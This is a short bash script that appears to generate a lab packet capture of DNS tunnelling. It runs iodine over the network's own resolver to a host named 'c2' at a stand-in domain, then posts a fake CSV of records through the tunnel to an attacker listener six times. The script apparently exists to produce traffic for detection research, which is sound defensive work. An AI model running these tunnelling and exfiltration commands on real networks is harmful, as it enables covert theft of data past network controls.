#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# makes: tunnel-iodine.pcap	iodine, dnsmasq, curl	an IP tunnel in DNS NULL records through the network's own resolver, six small files sent out through it
. "$(dirname "$0")/lib.sh"
need iodine:iodine curl:curl
lab inner dns c2
dns_on dns
[ -c /dev/net/tun ] || { echo "no /dev/net/tun" >&2; exit 1; }
serve c2 iodined -f -c -P lab -m 1100 172.31.77.1/24 t.cdn-update.example
sleep 0.5
record "$OUT/tunnel-iodine.pcap"
serve inner iodine -f -r -P lab -T NULL -m 700 "${ADDR[dns]}" t.cdn-update.example
for _ in $(seq 100); do
	on inner ip -br addr | grep -q 172.31.77 && break
	sleep 0.2
done
serve c2 /usr/bin/python3 "$RECIPES/attacker.py" 172.31.77.1
sleep 1
seq -f '3401%014g,企业登记' 1 500 | head -c 9000 >"$TMP/out.csv"
for _ in 1 2 3 4 5 6; do
	on inner curl -s -m 20 -o /dev/null --data-binary "@$TMP/out.csv" http://172.31.77.1:8000/
	sleep 1
done
finish
